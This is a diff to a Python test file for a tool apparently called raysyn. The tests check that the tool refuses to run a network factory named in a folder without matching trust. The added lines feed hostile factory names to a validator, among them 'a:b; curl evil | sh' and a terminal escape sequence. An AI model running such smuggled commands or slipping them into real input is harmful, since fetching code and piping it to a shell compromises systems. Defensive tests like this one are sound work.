@@ -8,6 +8,7 @@ import shutil
 import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import numpy as np
@@ -113,15 +114,20 @@ def test_a_network_that_a_folder_names_is_run_only_for_those_who_name_it_too(sta
         "audit": lambda **more: raysyn.audit("run", str(out), games=1024, **more),
     }
     for name, asked in commands.items():
-        with pytest.raises(ValueError, match=r"names code, network\.factory mynets:build, without --trust") as refused:
+        with pytest.raises(ValueError, match=r"names code, network\.factory mynets:build, which is not run") as refused:
             asked()
         assert "\n" not in str(refused.value) and not ran.exists(), name
-        with pytest.raises(ValueError, match=r"mynets:build, and trust is mynets:other: look at that code"):
+        with pytest.raises(ValueError, match=r"mynets:build, and trust is mynets:other: look at what"):
             asked(trust="mynets:other")
         assert not ran.exists() and not new.exists(), name
     write(start)
     drawn = raysyn.draw(str(out), out=str(new), synthetic=5, trust="mynets:build", on=at, quiet=True)
     assert len(drawn.images) == 5
+    for hostile in ("a:b; curl evil | sh", "a:b\n\x1b[2J", "a", ""):
+        made = SimpleNamespace(network=SimpleNamespace(factory=hostile))
+        with pytest.raises(ValueError, match="which is no function's name") as refused:
+            refuse_unnamed("run", made, hostile)
+        assert str(refused.value).isprintable()
     with pytest.raises(ValueError, match="trust is mynets:build, but run has no network of its own"):
         refuse_unnamed("run", catalogue.find("dp_feta").presets()["quick"], "mynets:build")
 
